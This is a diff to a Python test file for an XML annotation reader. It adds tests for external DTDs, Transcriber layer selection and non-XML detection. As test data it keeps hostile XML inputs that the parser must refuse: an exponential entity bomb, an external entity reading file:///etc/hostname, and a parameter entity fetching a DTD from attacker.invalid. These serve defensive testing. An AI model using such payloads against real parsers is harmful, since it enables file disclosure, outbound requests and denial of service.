@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 from collections.abc import Mapping
+from dataclasses import replace
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -104,10 +105,8 @@ BOMB = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">\n' for n in range(9))
         f'[<!ENTITY e0 "{"a" * 100_000}">]',
         '[<!ENTITY secret SYSTEM "file:///etc/hostname">]',
         '[<!ENTITY % more SYSTEM "http://attacker.invalid/x.dtd">%more;]',
-        'SYSTEM "http://attacker.invalid/x.dtd"',
-        'PUBLIC "-//X//X" "http://attacker.invalid/x.dtd"',
+        'SYSTEM "http://attacker.invalid/x.dtd" [<!ENTITY e9 "x">]',
         '[<!ATTLIST a b CDATA "from the declaration">]',
-        "",
     ],
 )
 def test_a_document_type_is_refused(declared: str) -> None:
@@ -115,9 +114,47 @@ def test_a_document_type_is_refused(declared: str) -> None:
     problem = refused(content)
     assert problem.row == 2
     assert "declares a document type (DTD) 'a'" in problem.what
-    assert ("attacker" in problem.what) == declared.startswith(("SYSTEM", "PUBLIC"))
     with pytest.raises(Unreadable):
         root_name(document(content))
+
+
+@pytest.mark.parametrize("declared", ["SYSTEM 'http://a.invalid/x'", "PUBLIC '-//X' 'x.dtd'"])
+def test_a_document_type_in_a_file_is_passed_over_but_not_what_it_would_define(
+    declared: str,
+) -> None:
+    content = f'<?xml version="1.0"?>\n<!DOCTYPE a {declared}>\n<a b="1">é</a>'
+    assert [one.text for one in elements(document(content))] == ["é"]
+    problem = refused(content.replace("é", "&eacute;"))
+    assert (problem.row, "&eacute; stands for something" in problem.what) == (3, True)
+
+
+def test_any_xml_with_times_is_read_and_asks_for_the_layer() -> None:
+    def transcript(*times: float) -> Source:
+        syncs = "".join(f"<Sync time='{time}'/>{time}" for time in times)
+        turns = f"<Turn startTime='0' endTime='40'>{syncs}</Turn>"
+        turns += "<Turn startTime='40' endTime='60.5'/>" * (times[-1] < 40)
+        section = f"<Section startTime='0' endTime='60.5'>{turns}</Section>"
+        kind = '<!DOCTYPE Trans SYSTEM "trans-14.dtd">'
+        return Source(f"talk{len(times)}.trs", f"{kind}<Trans>{section}</Trans>".encode())
+
+    one, many = transcript(0, 21.4), transcript(0, 9.5, 30)
+    (asked,) = read_sources([one, many], Choices(pattern="{item}")).problems
+    assert (asked.asks, asked.command) == ("layer", "--layer Sync for example")
+    choices = Choices(pattern="{item}", layer="Turn")
+    reading = read_sources([one, many], choices)
+    assert boundaries_of(reading) == {"talk2": {"coder": (40_000,)}, "talk3": {"coder": (40_000,)}}
+    reading = read_sources([one, many], replace(choices, layer="Sync"))
+    assert boundaries_of(reading)["talk3"] == {"coder": (9_500, 30_000)}
+
+
+def test_xml_with_whole_numbers_may_count_characters_and_is_no_recording() -> None:
+    marks = "".join(f"<mark start='{at}' end='{at + 9}'/>" for at in range(0, 90, 9))
+    (problem,) = read(f"<text>{marks}</text>", "a.xml").problems
+    assert "XML with the element <text>" in problem.what
+
+
+def test_lines_that_begin_as_xml_but_close_nothing_are_no_xml() -> None:
+    assert root_name(document("<file>\tname\nword\t1\n" * 200)) is None
 
 
 def test_references_to_schemas_and_inclusions_are_text() -> None:
@@ -511,7 +548,6 @@ BROKEN: dict[str, tuple[int | None, str]] = {
     "uima-xmi/broken/no_text.xmi": (None, "no text (sofaString) in the file"),
     "uima-xmi/broken/cut.xmi": (16, "not well-formed XML: unclosed token"),
     "uima-xmi/broken/entities.xmi": (2, "declares a document type (DTD) 'bomb'"),
-    "uima-xmi/broken/external.xmi": (2, "'http://attacker.invalid/xmi.dtd'"),
     "uima-json/broken/outside.json": (None, "offset 37 lies outside the text, which ends at 36"),
     "uima-json/broken/cut.json": (21, "not valid JSON"),
     "uima-json/broken/no_list.json": (None, "%FEATURE_STRUCTURES is no list"),
